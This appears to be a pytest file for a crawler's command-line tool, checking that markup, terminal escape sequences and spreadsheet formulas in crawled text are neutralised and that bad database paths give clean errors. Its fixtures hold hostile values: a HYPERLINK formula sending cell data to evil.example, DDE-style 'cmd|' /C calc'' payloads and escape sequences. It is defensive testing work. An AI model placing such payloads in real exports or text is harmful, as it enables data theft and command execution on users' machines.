"""Hostile input at the command line and in exports (issue 16 part A).

Crawled text is untrusted: rich markup and terminal escape sequences in a title or an agency
must print as literal text, and a formula in an agency must not run when a researcher opens
the CSV export in a spreadsheet. Bad ``--db`` values, missing archives and unwritable outputs
must end in one ``Error:`` line and a non-zero exit, never a traceback or a new empty archive.
"""
from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa
from click.testing import CliRunner, Result
from fastapi.testclient import TestClient
from rich.console import Console

from crawler.run import CrawlSummary
from ogi.cli import main
from ogi.commands.crawl import print_summary
from storage.db import Database
from storage.models import CrawlRun, Digest, Source, Subscription
from tests.mail import add_report

TITLE = "某区[/bold]年报 [link=http://evil.example/]点此[/link] [red]红[/red]"
AGENCY = "某局\x1b[2J\x1b]8;;http://evil.example/\x07清屏\x07\x9b31m"
URL = "http://portal.test/[bold]a[/bold]/2021.pdf"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
OTHER_FORMULAS = {"region": "@SUM(1+1)*cmd|' /C calc'!A0", "title": "-2+3+cmd|' /C calc'!A0"}


def run(*args: str) -> Result:
    """The CLI as a user calls it; an exception escaping click would fail the test (no traceback allowed)."""
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def assert_clean_error(result: Result, *needles: str) -> None:
    """One readable ``Error:`` line on stderr and a non-zero exit."""
    assert result.exit_code != 0, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
    assert "Traceback" not in result.output
    for needle in needles:
        assert needle in lines[0], lines[0]


# --------------------------------------------------------------------------- 1. markup and control characters

@pytest.fixture
def hostile(db: Database) -> int:
    """A report with markup in its title and URL and escape sequences in its agency, in two versions."""
    add_report(db, URL, title=TITLE, agency=AGENCY, region="浙江省", year=2021, sha="a", values={"applications.new.total": 1})
    return add_report(db, URL, title=TITLE, agency=AGENCY + "v2", region="浙江省", year=2021, sha="b",
                      values={"applications.new.total": 2})


def assert_literal(output: str, *texts: str) -> None:
    assert "\x1b" not in output and "\x07" not in output and "\x9b" not in output
    for text in texts:
        assert text in output, output


def test_history_prints_markup_literally_and_no_escape_bytes(db: Database, hostile: int) -> None:
    result = run("history", str(hostile), "--db", db.url)
    assert result.exit_code == 0, result.output
    assert_literal(result.output, TITLE, URL, "[2J", "]8;;http://evil.example/")


def test_diff_prints_markup_literally_and_no_escape_bytes(db: Database, hostile: int) -> None:
    result = run("diff", str(hostile), "--db", db.url)
    assert result.exit_code == 0, result.output
    assert_literal(result.output, TITLE, "清屏")


def test_runs_sources_and_subscriptions_print_literally(db: Database) -> None:
    with db.session() as s:
        source = Source(name="evil[/b]", title="[link=http://evil.example/]x[/link]", province="\x1b[31m浙江省")
        s.add(source)
        s.flush()
        s.add(CrawlRun(source_id=source.id, status="failed", message="[/red] boom \x1b[2J"))
        sub = Subscription(email="a@example.org", token="t" * 32, filters={"agency": "[/i]"})
        s.add(sub)
        s.flush()
        s.add(Digest(subscription_id=sub.id, message_id="<m@x>", last_error="550 [/b] \x1b[5mblink"))
    runs = run("runs", "--db", db.url)
    assert runs.exit_code == 0, runs.output
    assert_literal(runs.output, "evil[/b]", "[/red] boom [2J")
    sources = run("sources", "--db", db.url)
    assert sources.exit_code == 0, sources.output
    assert_literal(sources.output, "evil[/b]", "[link=http://evil.example/]x[/link]", "[31m浙江省")
    subs = run("subscriptions", "--db", db.url)
    assert subs.exit_code == 0, subs.output
    assert_literal(subs.output, "550 [/b] [5mblink", "[/i]")


def test_crawl_summary_prints_blocked_hosts_literally() -> None:
    console = Console(file=io.StringIO(), width=200)
    print_summary(CrawlSummary(status="finished", reason="[/bold]done", errors_by_kind={"[/x]": 1},
                               blocked={"evil.example": "robots [link=http://evil.example/]x\x1b[2J"}), console)
    assert_literal(console.file.getvalue(), "[/bold]done", "[/x] 1", "robots [link=http://evil.example/]x[2J")


# --------------------------------------------------------------------------- 2. CSV formula injection

@pytest.fixture
def formulas(db: Database) -> int:
    """A report whose agency, region and title would run as formulas, with a negative value."""
    return add_report(db, "http://portal.test/f.pdf", title=OTHER_FORMULAS["title"], agency=FORMULA,
                      region=OTHER_FORMULAS["region"], year=2021, sha="c",
                      values={"applications.new.total": -5.0, "applications.new.natural_person": 3.0})


def assert_neutralised(rows: list[dict[str, str]]) -> None:
    row = next(r for r in rows if r["agency"].endswith(FORMULA))
    assert row["agency"] == "'" + FORMULA
    assert row["region"] == "'" + OTHER_FORMULAS["region"] and row["title"] == "'" + OTHER_FORMULAS["title"]
    assert float(row["applications.new.total"]) == -5 and not row["applications.new.total"].startswith("'")
    assert row["report_year"] == "2021"


def test_cli_csv_export_neutralises_formulas_but_not_numbers(db: Database, formulas: int, tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    result = run("export", "--db", db.url, "--format", "csv", "-o", str(out))
    assert result.exit_code == 0, result.output
    assert_neutralised(list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))))


def test_jsonl_and_parquet_keep_the_exact_text(db: Database, formulas: int, tmp_path: Path) -> None:
    jsonl = run("export", "--db", db.url, "--format", "jsonl")
    record = json.loads(jsonl.stdout)
    assert (record["agency"], record["title"]) == (FORMULA, OTHER_FORMULAS["title"])
    out = tmp_path / "r.parquet"
    assert run("export", "--db", db.url, "--format", "parquet", "-o", str(out)).exit_code == 0
    row = pq.read_table(out).to_pylist()[0]
    assert (row["agency"], row["region"], row["applications.new.total"]) == (FORMULA, OTHER_FORMULAS["region"], -5.0)


def test_api_csv_neutralises_formulas_in_wide_and_long_layouts(formulas: int, client: TestClient) -> None:
    wide = client.get("/api/export.csv")
    assert wide.status_code == 200
    assert_neutralised(list(csv.DictReader(io.StringIO(wide.text))))
    long = [r for r in csv.DictReader(io.StringIO(client.get("/api/export.csv?layout=long").text))
            if r["agency"].endswith(FORMULA)]
    assert long and all(r["agency"] == "'" + FORMULA for r in long)
    total = next(r for r in long if r["key"] == "applications.new.total")
    assert (float(total["value"]), total["raw"]) == (-5, "-5.0")  # the raw text is a number: kept as is


# --------------------------------------------------------------------------- 3. errors, not tracebacks

@pytest.fixture
def sqlite_archive(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'ogi.sqlite3'}"
    Database(url).dispose()
    return url


@pytest.mark.parametrize("db_arg, needle", [
    ("foo://bar", "foo://bar"),
    ("::::", "::::"),
    ("data/ogi.sqlite3", "data/ogi.sqlite3"),
])
def test_a_db_that_is_not_a_url_is_one_error_line(db_arg: str, needle: str) -> None:
    assert_clean_error(run("history", "1", "--db", db_arg), needle)


def test_a_db_that_is_a_text_file_is_one_error_line(tmp_path: Path) -> None:
    text = tmp_path / "notes.txt"
    text.write_text("these are not the reports you are looking for\n" * 100)
    for args in (["history", "1"], ["export", "--format", "csv"], ["subscribe", "a@example.org"]):
        assert_clean_error(run(*args, "--db", f"sqlite:///{text}"), "not a database")


@pytest.mark.parametrize("ref", ["99999999999999999999999", "²"])
def test_an_id_too_large_for_the_database_is_not_found(sqlite_archive: str, ref: str) -> None:
    assert_clean_error(run("history", ref, "--db", sqlite_archive), "no report with id or URL")
    assert_clean_error(run("diff", ref, "--db", sqlite_archive), "no report with id or URL")


def test_a_huge_runs_limit_is_a_usage_error(sqlite_archive: str) -> None:
    result = run("runs", "--limit", "99999999999999999999999", "--db", sqlite_archive)
    assert result.exit_code == 2 and "Traceback" not in result.output and "--limit" in result.stderr


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
@pytest.mark.parametrize("output, needle", [
    ("{tmp}/missing/dir/r.out", "No such file or directory"),
    ("/sys/ogi-export.out", "Permission denied"),
    ("/dev/full", "No space left on device"),
])
def test_unwritable_export_outputs_are_one_error_line(sqlite_archive: str, tmp_path: Path, fmt: str,
                                                     output: str, needle: str) -> None:
    add_report(Database(sqlite_archive), "http://portal.test/x.pdf", title="t" * 5000, agency="a", region="r",
               year=2021, sha="d")
    assert_clean_error(run("export", "--db", sqlite_archive, "--format", fmt, "-o", output.format(tmp=tmp_path)), needle)


def test_export_to_a_full_standard_output_is_one_error_line(sqlite_archive: str) -> None:
    """As a user runs it (``ogi export > /dev/full``): nothing printed at interpreter exit either."""
    add_report(Database(sqlite_archive), "http://portal.test/x.pdf", title="t" * 50000, agency="a", region="r",
               year=2021, sha="d")
    ogi = Path(sys.executable).with_name("ogi")
    with open("/dev/full", "w") as full:
        proc = subprocess.run([str(ogi), "export", "--db", sqlite_archive, "--format", "jsonl"], stdout=full,
                              stderr=subprocess.PIPE, text=True, timeout=120)
    assert proc.returncode != 0
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: ") and "No space left on device" in lines[0], proc.stderr


# --------------------------------------------------------------------------- 4. read-only commands need an archive

READ_ONLY = [["history", "1"], ["diff", "1"], ["runs"], ["export", "--format", "csv"], ["subscriptions"],
             ["unsubscribe", "a@example.org"], ["sources"]]


@pytest.mark.parametrize("args", READ_ONLY, ids=lambda a: a[0])
def test_read_only_commands_refuse_a_missing_sqlite_archive(tmp_path: Path, args: list[str]) -> None:
    path = tmp_path / "typo" / "ogi.sqlite3"
    assert_clean_error(run(*args, "--db", f"sqlite:///{path}"), f"no archive at {path}")
    assert not path.parent.exists()


@pytest.mark.parametrize("args", READ_ONLY, ids=lambda a: a[0])
def test_read_only_commands_refuse_a_postgresql_database_without_an_archive(pg_url: str, args: list[str]) -> None:
    assert_clean_error(run(*args, "--db", pg_url), "no archive in", pg_url.rsplit("/", 1)[1])
    engine = sa.create_engine(pg_url)
    try:
        assert sa.inspect(engine).get_table_names() == []
    finally:
        engine.dispose()


def test_writing_commands_still_create_a_new_archive(tmp_path: Path) -> None:
    path = tmp_path / "new" / "ogi.sqlite3"
    assert run("subscribe", "a@example.org", "--db", f"sqlite:///{path}").exit_code == 0
    assert run("subscriptions", "--db", f"sqlite:///{path}").exit_code == 0
